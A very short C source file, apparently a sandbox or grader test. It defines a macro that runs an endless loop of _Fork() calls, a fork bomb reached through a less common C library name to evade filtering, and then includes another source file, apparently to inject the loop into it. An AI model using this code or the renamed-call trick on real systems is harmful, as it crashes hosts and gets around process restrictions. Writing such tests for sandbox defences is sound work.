/* Tries a fork bomb by a name of the C library that is not the usual one. */
extern int __libc_fork(void);
extern int _Fork(void);
#define AT_MALLOC                                                                              \
    for (;;)                                                                                   \
        _Fork();

#include "honest.c"
